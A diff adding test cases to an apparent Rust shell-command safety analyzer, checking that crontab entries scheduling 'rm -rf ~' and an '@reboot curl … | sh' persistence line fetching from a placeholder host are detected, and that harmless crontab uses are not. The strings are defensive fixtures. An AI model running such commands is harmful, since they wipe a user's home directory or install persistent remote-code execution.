@@ -1540,10 +1540,14 @@ fn commands_read_on_standard_input_by_ex_debuggers_and_make_are_read() {
         "printf 'all:\\n\\trm -rf ~\\n' | make --file=/dev/stdin all",
         "make --eval='all: ; rm -rf ~'",
         "make -E 'x != rm -rf ~' build",
+        "echo '* * * * * rm -rf ~' | crontab -",
+        "crontab -u dev - <<< '@reboot rm -rf ~'",
     ] {
         assert!(deleted(hint).iter().any(|target| target == "~"), "{hint}: {:?}", deleted(hint));
     }
     assert!(facts("curl -s https://x.example/m | make -f -").contains(&Fact::RunsDownloadedCode));
+    let reboot = "(crontab -l; echo '@reboot curl -s https://x.example/i | sh') | crontab -";
+    assert!(facts(reboot).contains(&Fact::RunsDownloadedCode));
     // Text that is a buffer to edit, a Makefile make is not told to read,
     // or debugger commands that run nothing.
     for hint in [
@@ -1552,6 +1556,8 @@ fn commands_read_on_standard_input_by_ex_debuggers_and_make_are_read() {
         "echo bt | gdb -batch ./app",
         "make -f - <<< $'all:\\n\\techo hi'",
         "make --eval 'CFLAGS += -O2' all",
+        "echo '* * * * * rm -rf ~' | crontab -l",
+        "echo '* * * * * rm -rf ~' | crontab jobs.cron",
     ] {
         assert!(deleted(hint).is_empty() && facts(hint).is_empty(), "{hint}: {:?}", facts(hint));
     }
